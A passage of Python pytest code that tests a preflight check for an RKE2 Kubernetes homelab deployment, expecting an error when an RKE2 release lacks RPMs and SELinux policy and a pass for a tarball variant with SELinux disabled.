    with pytest.raises(InventoryError, match="RKE2 v1.31.14\\+rke2r1 publishes no RPMs and no SELinux policy"):
        preflight(dataclasses.replace(homelab, clusters=(homelab.cluster("debian"), old)), "deploy-rke2")
    tarball = dataclasses.replace(old, selinux=False)
    preflight(dataclasses.replace(homelab, clusters=(homelab.cluster("debian"), tarball)), "deploy-rke2")
